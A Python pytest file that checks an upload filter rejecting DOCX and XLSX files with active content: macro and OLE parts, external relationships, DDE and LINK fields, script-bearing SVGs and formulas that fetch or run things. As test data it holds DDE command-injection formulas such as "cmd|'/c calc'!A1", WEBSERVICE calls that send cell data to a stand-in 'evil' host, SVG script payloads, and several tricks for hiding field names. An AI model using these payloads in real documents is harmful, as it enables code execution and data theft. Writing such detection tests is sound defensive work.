"""What a DOCX or XLSX may hold: no part, relationship, field or formula that acts unasked (SECURITY 65)."""

from __future__ import annotations

import pytest

from idp.adapters.inspection import Kind, UploadRefused, Why
from idp.adapters.inspection.program import check
from tests.adapters import specimens as a

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600
STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
MICROSOFT = "http://schemas.microsoft.com/office/2006/relationships"
BEGINS, ENDS = a.FIELD_BEGINS, a.FIELD_ENDS
MASKED = (
    f"<mc:Choice>{BEGINS}</mc:Choice><mc:Fallback>{BEGINS}<w:instrText>PAGE </w:instrText></mc:Fallback>"
    f"<w:instrText>LINK x</w:instrText>{ENDS}"
)
RELATIONSHIPS = """
    aFChunk oleObject package control ctrlProp activeXControlBinary attachedTemplate subDocument frame
    transform externalLink externalLinkPath externalLinkLongPath xlExternalLinkPath xlPathMissing xlStartup
    xlAlternateStartup xlLibrary connections queryTable vbaProject vbaProjectSignatureAgile wordVbaData
    keyMapCustomizations attachedToolbars customUI ui/extensibility ui/userCustomization xlMacrosheet
    xlIntlMacrosheet dialogsheet volatileDependencies webextension webextensiontaskpanes mailMergeSource
    mailMergeHeaderSource
"""
FIELDS = "DDE DDEAUTO LINK INCLUDETEXT INCLUDEPICTURE INCLUDE IMPORT DATABASE DATA"
CALLS = """
    WEBSERVICE IMAGE FILTERXML RTD DDE STOCKHISTORY TRANSLATE COPILOT IMPORTTEXT IMPORTCSV IMPORTXML
    IMPORTHTML IMPORTDATA IMPORTFEED IMPORTRANGE SQL.REQUEST CALL REGISTER REGISTER.ID EXEC EXECUTE RUN
    INITIATE POKE REQUEST FOPEN FILES
"""
FORMULAS = "f formula formula1 formula2 definedName calculatedColumnFormula totalsRowFormula FmlaPict"


def why(data: bytes) -> Why | None:
    """Why the document is refused, None if it stays."""
    try:
        check(Kind.XLSX if b"xl/workbook.xml" in data else Kind.DOCX, data)
    except UploadRefused as refused:
        return refused.why
    return None


@pytest.mark.parametrize(
    "content", [f"<w xmlns:w='{a.WORD}'>{a.a_field('DDEAUTO cmd')}</w>", "<!DOCTYPE a><a/>"]
)
def test_a_part_is_judged_as_xml_by_its_name_and_by_its_type(content: str) -> None:
    header = "wordprocessingml.header+xml"
    font = "word__fonts__a.odttf"
    assert why(a.office(**{"word__header1.xml": content})) is Why.ACTIVE
    assert why(a.office(types=a.a_type("word/fonts/a.odttf", header), **{font: content})) is Why.ACTIVE
    assert why(a.office(types=a.a_type("WORD/fonts/%61.odttf", header), **{font: content})) is Why.ACTIVE
    by_ending = '<Default Extension="ODTTF" ContentType="application/xml"/>'
    assert why(a.office(types=by_ending, **{font: content})) is Why.ACTIVE


def test_a_main_part_has_the_ending_of_xml() -> None:
    main = a.a_type("word/document.dat", "wordprocessingml.document.main+xml")
    assert why(a.office(types=main, **{"word__document.dat": "<a/>"})) is Why.NOT_WHAT_IT_SAYS


@pytest.mark.parametrize("kind", RELATIONSHIPS.split())
def test_a_relationship_that_acts_is_refused_though_it_stays_inside(kind: str) -> None:
    for to in (a.OFFICE, STRICT, MICROSOFT):
        acts = a.a_relationship(kind, "media/a.xml", "Internal", to=to)
        assert why(a.office(relationships=acts)) is Why.ACTIVE, to


@pytest.mark.parametrize("target", ["http://evil/a.png", "file:///a", "//evil/a.png", r"\\evil\a.png"])
def test_an_address_is_refused_though_its_relationship_calls_it_inside(target: str) -> None:
    assert why(a.office(relationships=a.a_relationship("image", target, "Internal"))) is Why.ACTIVE
    assert why(a.office(relationships=a.a_relationship("image", "a.png", " External "))) is Why.ACTIVE
    assert why(a.office(relationships=a.a_relationship("hyperlink", target))) is None


def test_a_part_that_is_neither_xml_nor_a_picture_is_refused() -> None:
    for content in (
        b"MZ" + b"\0" * 600,
        OLE,
        b"{\\rtf1{\\object}}",
        b"PK\x03\x04",
        b"#!/bin/sh",
        b"BMxx",
        b"\0",
    ):
        for name in ("word__media__a.png", "word__media__a.dat", "word__a.rtf", "docProps__thumbnail.jpeg"):
            assert why(a.office(**{name: content})) is Why.ACTIVE, (name, content)
    for name in ("word__fonts__a.odttf", "word__printerSettings__a.bin"):
        assert why(a.office(**{name: b"\1\2\3" * 200})) is None
        for content in (
            b"MZ" + b"\0" * 600,
            OLE,
            b"{\\rtf1{\\object}}",
            b"PK\x03\x04",
            b"%PDF-1.7",
            b"\x7fELF",
        ):
            assert why(a.office(**{name: content})) is Why.ACTIVE, (name, content)


def test_every_sort_of_picture_that_offices_keep_may_stay() -> None:
    for content in (
        *(a.png(), a.jpg(), b"GIF89a\1\0\1\0", b"BM\x46\0\0\0\0\0\0\0\x36\0", b"II*\0\x08\0", b"MM\0*\0\0"),
        *(b"RIFF\x24\0\0\0WEBPVP8 ", b"II\xbc\x01\x20\0", b"\xd7\xcd\xc6\x9a\0\0", b"\1\0\x09\0\0\3\0\0"),
        *(b"\1\0\0\0" + b"\x6c" * 36 + b" EMF\0\0\1\0", b""),
    ):
        assert why(a.office(word__media__image1=content)) is None, content[:60]


def test_an_svg_is_a_drawing_and_nothing_else() -> None:
    for drawn in (
        a.an_svg("<path d='M0 0'/><use l:href='#a'/><style>a{fill:url(#b)}</style>", fill="url(#a)"),
        a.an_svg("<image href='data:image/png;base64,AA=='/>"),
    ):
        assert why(a.office(**{"word__media__a.svg": drawn})) is None, drawn
    for drawn in (
        a.an_svg("<script>alert(1)</script>"),
        a.an_svg("<foreignObject/>"),
        a.an_svg(onload="alert(1)"),
        a.an_svg("<image l:href='http://evil/a.png'/>"),
        a.an_svg("<use href='other.svg#a'/>"),
        a.an_svg("<image href='data:image/svg+xml,a'/>"),
        a.an_svg("<style>@import 'http://evil'</style>"),
        a.an_svg("<style>a{fill:ur<![CDATA[l(http:]]>//evil)}</style>"),
        a.an_svg(style="fill:url('//evil')"),
        a.an_svg(fill="url(http://evil)"),
        "<html xmlns='http://www.w3.org/1999/xhtml'/>",
        '<?xml-stylesheet href="http://evil"?>' + a.an_svg(),
        "<!DOCTYPE svg>" + a.an_svg(),
    ):
        assert why(a.office(**{"word__media__a.svg": drawn})) is Why.ACTIVE, drawn
    typed = '<Default Extension="png" ContentType="image/svg+xml"/>'
    for drawn in (a.an_svg("<script/>"), "<html/>"):
        assert why(a.office(types=typed, **{"word__media__a.png": drawn})) is Why.ACTIVE, drawn


def test_an_outline_as_excel_writes_it_is_read_though_it_is_no_xml() -> None:
    part = "xl__drawings__vmlDrawing1.vml"
    assert why(a.office("xl", **{part: "<xml><v:fill o:relid='rId1'/><div>A<br>B</div></xml>"})) is None
    for told in (
        "<v:imagedata src='http://evil/a.png'>",
        '<v:fill src = "\\\\evil\\a">',
        "<v:fill src='&#104;ttp://evil'>",
        "<script>",
        "<!DOCTYPE a>",
    ):
        assert why(a.office("xl", **{part: told})) is Why.ACTIVE, told
        assert why(a.office("xl", **{part: told.encode("utf-16")})) is Why.ACTIVE, told


@pytest.mark.parametrize(
    "code",
    [
        *(f"{name} x" for name in FIELDS.split()),
        *("RD x", "CONTROL Forms.Button.1", "  link Word.Document.8 x", '"LINK" x', "\xa0\u200bLINK x"),
    ],
)
def test_a_field_that_fetches_or_starts_something_is_refused(code: str) -> None:
    assert why(a.office(inside=a.a_field(code))) is Why.ACTIVE
    assert why(a.office(inside=a.a_field(*code))) is Why.ACTIVE
    assert why(a.office(inside=a.a_field(" IF ", BEGINS, code, ENDS, " = 1"))) is Why.ACTIVE
    assert why(a.office(inside=f"<w:fldSimple w:instr='{code}'/>")) is Why.ACTIVE
    assert why(a.office(inside=BEGINS + f"<w:p/><w:instrText>{code}</w:instrText>")) is Why.ACTIVE
    assert why(a.office(inside=f"<w:p><w:instrText>{code}</w:instrText></w:p>")) is Why.ACTIVE


@pytest.mark.parametrize(
    "field",
    [
        a.a_field("LINK", "<w:tab/>", "x"),
        a.a_field(" " * 99, " " * 99 + "LI", "NK x"),
        a.a_field("DD", "<w:t>EAUTO</w:t>", " cmd"),
        a.a_field("<w:t>PAGE </w:t>", "DDEAUTO cmd"),
        a.a_field("<w:delInstrText>PAGE </w:delInstrText>", "DDEAUTO cmd"),
        a.a_field("<w:instrText>DD<w:x/>EAUTO</w:instrText>"),
        # A name that another field makes: QUOTE 68 68 69 is DDE.
        a.a_field(BEGINS, "QUOTE 68 68 69", ENDS, " cmd"),
        a.a_field("<w:delInstrText>PAGE </w:delInstrText>", BEGINS, "QUOTE 68", ENDS),
        a.a_field(" d", BEGINS, "QUOTE 68 69", ENDS, " cmd"),
        a.a_field("<w:t>I</w:t>", "M", BEGINS, "QUOTE 80", ENDS, " x"),
        a.a_field(" L", "<w:fldSimple w:instr='QUOTE INK'/>", " x"),
        # What stands in another place than it seems, so that the name is not the first there.
        a.a_field("<w:txbxContent><w:p><w:instrText>PAGE </w:instrText></w:p></w:txbxContent>", "LINK x"),
        MASKED,
        f"<mc:Choice>{BEGINS}</mc:Choice>{ENDS}",
        a.a_field("<mc:instrText>PAGE </mc:instrText>", "LINK x"),
    ],
)
def test_a_field_that_hides_its_name_is_refused(field: str) -> None:
    assert why(a.office(inside=field)) is Why.ACTIVE


def test_the_fields_of_usual_texts_may_stay() -> None:
    result = '<w:fldChar w:fldCharType="separate"/>'
    for field in (
        a.a_field(" HYPERL", 'INK "http://a/', 'link" ', result, "<w:t>LINK</w:t>"),
        a.a_field(" TOC \\h ", result, BEGINS, " PAGEREF a ", ENDS),
        a.a_field(" IF ", BEGINS, "MERGEFIELD a", result, "<w:t>DDE</w:t>", ENDS, ' = 1 "LINK" "RD"'),
        a.a_field("= ", BEGINS, "PAGE", ENDS, "-1"),
        a.a_field("= link + 1") + a.a_field(result, BEGINS, "PAGE", ENDS),
        a.a_field('DATE \\@ "yyyy"', result, "<w:t>DATABASE</w:t>"),
        a.a_field("QUOTE x") + a.a_field("MACROBUTTON NoMacro x") + a.a_field("ADDIN EN.CITE the link"),
        "<w:p><w:t>LINK DDEAUTO</w:t></w:p>",
        f"<mc:Choice>{a.a_field('PAGE')}</mc:Choice><w:txbxContent>{a.a_field('PAGE')}</w:txbxContent>",
        "<w:f>=WEBSERVICE(A1)</w:f>",
    ):
        assert why(a.office(inside=field)) is None, field


@pytest.mark.parametrize(
    "inside",
    [
        '<w:mailMerge><w:connectString w:val="Provider=SQL"/></w:mailMerge>',
        '<w:property name="_AssemblyLocation"/>',
        '<w:imagedata src="http://evil/a.png"/>',
        '<w:fill src="\\\\evil\\a"/>',
    ],
)
def test_what_a_text_fetches_without_a_field_is_refused(inside: str) -> None:
    assert why(a.office(inside=inside)) is Why.ACTIVE


ACTIVE_FORMULAS = (
    *(f"1+{name}(A1)" for name in CALLS.split()),
    '_xlfn.WEBSERVICE("http://evil/?"&A1)',
    "_xlfn._xlws.PY(0)",
    "webservice (A1)",
    "MAP(A1:A2,_xleta.WEBSERVICE)",
    """T[a"]&WEBSERVICE("x")""",
    "cmd|'/c calc'!A1",
    """cmd|'/c "calc"'!A1""",
    "cmd|x!A1",
    "cmd|'x'!A1",
    "'cmd|x y'!A1",
    "[1]Sheet1!A1",
    "SUM([2]!Name)",
    "'[1]A sheet'!A1",
    "'[1]It''s'!A1",
    r"'\\host\share\[x.xlsx]S'!A1",
    r"'\\host\it''s.xlsx'!name",
    "'http://evil/x.xlsx'!name",
    "'file:///tmp/x.ods'#$S.A1",
)


@pytest.mark.parametrize("formula", ACTIVE_FORMULAS)
def test_a_formula_that_fetches_or_starts_something_is_refused(formula: str) -> None:
    assert why(a.a_formula(formula)) is Why.ACTIVE


@pytest.mark.parametrize("element", FORMULAS.split())
def test_a_formula_is_judged_wherever_it_stands(element: str) -> None:
    assert why(a.a_formula("WEBSERVICE(A1)", element)) is Why.ACTIVE
    split = f"<x:{element}>WEB<x:a/>SERV<![CDATA[ICE]]>(A1)</x:{element}><x:a formula='A1'/>"
    assert why(a.office("xl", inside=split)) is Why.ACTIVE
    assert why(a.a_formula("SUM(A1)", element)) is None
    assert why(a.a_formula("A1" * 40_000, element)) is Why.TOO_MUCH_INSIDE
    assert why(a.office("xl", inside="<x:a formula='WEBSERVICE(A1)'/>")) is Why.ACTIVE


def test_the_formulas_of_usual_sheets_may_stay() -> None:
    for formula in (
        """TEXTJOIN("|",TRUE,B1:B3)&'表 1'!A1&"a|b"&'S 2'!A1""",
        """IF(A1="","[提示]错误!",A2/'表 1'!B2)""",
        'HYPERLINK("[x.xlsx]Sheet1!A1","去")&HYPERLINK("http://a/b","c")',
        "SUM(T1[[#This Row],[金额'[元']]])*Sheet2!A1+T1[1]/'S 1'!A1",
        """TEXT(A1,"yyyy/mm/dd")&'S 1'!A1&'it''s'!A1""",
        "[0]!名称+'1月:3月'!A1+MY_IMAGE(A1)+CALLED(A1)",
        "_xlfn._xlws.FILTER(A1:A3,A1:A3>0)",
        "Sheet1!#REF!",
    ):
        assert why(a.a_formula(formula)) is None, formula
    words = "<x:t>WEBSERVICE(A1)</x:t><m:f xmlns:m='http://x/math'><m:t>CALL(x)</m:t></m:f>"
    assert why(a.office("xl", inside=words)) is None
